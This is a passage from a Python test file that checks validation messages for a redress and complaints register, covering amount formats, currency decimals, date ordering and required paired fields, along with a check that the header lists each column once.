    assert "as a number" in said[(3, "redress_paid")] and (3, "vulnerable") in said
    assert "at most 2 decimals" in said[(4, "redress_paid")] and "ROOT_CAUSES" in said[(4, "root_cause")]
    assert "no decimals" in said[(5, "redress_offered")]
    assert said[(5, "redress_paid")] == "is required when redress_paid_on is given"
    assert "before received_on" in said[(5, "redress_paid_on")]
    assert "XYZ" in said[(6, "redress_currency")]
    assert said[(6, "ombudsman_decision")] == "is required when ombudsman_decided_on is given"
    # The amounts in a 0-decimal currency are whole: JPY 1250 is written 1250 and read back so.
    assert Currency.of("JPY").plain(Currency.of("JPY").parse("1,250")) == "1250"


def test_the_header_names_every_new_column_once():
    assert all(register.describe().count(f"| `{name}` |") == 1 for name in RECORD_COLUMNS)
